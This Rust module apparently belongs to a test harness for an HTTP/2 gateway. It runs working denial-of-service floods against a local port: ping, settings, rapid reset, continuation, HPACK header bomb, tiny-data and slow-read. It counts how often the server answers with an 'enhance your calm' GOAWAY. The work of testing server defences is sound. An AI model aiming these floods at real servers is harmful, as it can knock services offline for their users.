//! Cheap work without end on one connection of HTTP/2 after the other, as fast as it is taken.

use super::frames::{Frames, block};
use super::table;
use engine::h2::frame::{Code, END_HEADERS, END_STREAM, HEAD, Head, Kind, Setting, rst_stream};
use std::io::{Read, Write};
use std::net::{Shutdown, TcpStream};
use std::sync::Arc;
use std::sync::atomic::{AtomicBool, AtomicU64, Ordering};
use std::time::{Duration, Instant};

/// All of them.
pub(crate) const NAMES: [&str; 7] =
    ["ping", "settings", "reset", "continuation", "header-bomb", "tiny-data", "slow-read"];

/// Between two connections.
const PAUSE: Duration = Duration::from_millis(100);
/// Frames in one write.
const FRAMES: u32 = 50;

/// Words: name, port, milliseconds. Prints how many frames it sent, on how many connections, and
/// how many of those were told to calm down.
pub(crate) fn run(words: &[String]) -> Result<(), String> {
    let [name, port, millis] = words else { return Err("attacker NAME PORT MILLIS".to_owned()) };
    let port: u16 = port.parse().map_err(|_| "a port".to_owned())?;
    let millis: u64 = millis.parse().map_err(|_| "a number".to_owned())?;
    let until = Instant::now() + Duration::from_millis(millis);
    let (mut frames, mut connections, mut calmed) = (0, 0, 0);
    while Instant::now() < until {
        connections += 1;
        // The gateway ends it in the middle of a write: no failure of the attack.
        if let Ok((sent, calm)) = attack(name, port, until) {
            frames += sent;
            calmed += u64::from(calm);
        }
        std::thread::sleep(PAUSE);
    }
    table::tell(&format!("{frames} {connections} {calmed}"));
    Ok(())
}

/// One connection until it ends; frames sent, and whether it was told to calm down.
fn attack(name: &str, port: u16, until: Instant) -> std::io::Result<(u64, bool)> {
    let mut stream = TcpStream::connect(("127.0.0.1", port))?;
    let (over, calm) = (Arc::new(AtomicBool::new(false)), Arc::new(AtomicU64::new(0)));
    let (mut frames, slow) = (Frames::new("/1048576", "http"), name == "slow-read");
    if slow {
        frames.put(Kind::Settings, 0, 0, &Setting::InitialWindowSize(0).bytes());
        (0..100).for_each(|_| {
            frames.ask();
        });
    }
    let reader = {
        let (mut stream, over, calm) = (stream.try_clone()?, Arc::clone(&over), Arc::clone(&calm));
        std::thread::spawn(move || listen(&mut stream, &over, &calm))
    };
    let mut sent = 0;
    let mut turn = 0;
    while Instant::now() < until && !over.load(Ordering::Relaxed) {
        if slow && turn > 0 {
            std::thread::sleep(PAUSE);
            continue;
        }
        for _ in 0..FRAMES {
            add(name, &mut frames, turn);
            turn += 1;
        }
        sent += u64::from(FRAMES);
        if stream.write_all(&frames.out).is_err() {
            break;
        }
        frames.out.clear();
    }
    // What it was told may still be on its way.
    std::thread::sleep(PAUSE);
    let _ = stream.shutdown(Shutdown::Both);
    let _ = reader.join();
    Ok((sent, calm.load(Ordering::Relaxed) > 0))
}

fn add(name: &str, frames: &mut Frames, turn: u32) {
    let stream = 2 * turn + 1;
    match name {
        "ping" => frames.put(Kind::Ping, 0, 0, &[7; 8]),
        "settings" => frames.put(Kind::Settings, 0, 0, &Setting::InitialWindowSize(9).bytes()),
        "reset" => {
            let stream = frames.ask();
            frames.out.extend_from_slice(&rst_stream(stream, Code::Cancel));
        }
        "continuation" if turn == 0 => frames.put(Kind::Headers, END_STREAM, 1, &[]),
        "continuation" => frames.put(Kind::Continuation, 0, 1, &[0x82; 1_000]),
        "header-bomb" => frames.put(Kind::Headers, END_HEADERS | END_STREAM, stream, &bomb()),
        "tiny-data" if turn == 0 => {
            let fields =
                [(":method", "POST"), (":scheme", "http"), (":authority", "bench.example")];
            let head = block(&[fields.as_slice(), &[(":path", "/128")]].concat());
            frames.put(Kind::Headers, END_HEADERS, 1, &head);
        }
        "tiny-data" => frames.put(Kind::Data, 0, 1, b"x"),
        _ => {}
    }
}

/// A field of four kibibytes for the table, named as often as fits a frame.
fn bomb() -> Vec<u8> {
    let mut bomb = block(&[(":method", "GET"), (":scheme", "http"), (":path", "/")]);
    bomb.extend_from_slice(&[0x40, 1, b'x', 0x7f, 0x80 + 33, 30]);
    bomb.extend_from_slice(&[b'v'; 4_000]);
    bomb.resize(16_000, 0x80 + 62);
    bomb
}

/// Reads until the end, and notes the code of a GOAWAY.
fn listen(stream: &mut TcpStream, over: &AtomicBool, calm: &AtomicU64) {
    let mut heard = Vec::new();
    let mut buffer = vec![0; 64 << 10];
    while let Ok(count @ 1..) = stream.read(&mut buffer) {
        heard.extend_from_slice(&buffer[..count]);
        let mut at = 0;
        while let Some(head) = heard[at..].first_chunk().map(Head::read) {
            let whole = HEAD + head.length as usize;
            if heard.len() < at + whole {
                break;
            }
            if head.kind == Kind::Goaway && heard[at + HEAD..at + whole].get(7) == Some(&11) {
                calm.fetch_add(1, Ordering::Relaxed);
            }
            at += whole;
        }
        heard.drain(..at);
    }
    over.store(true, Ordering::Relaxed);
}
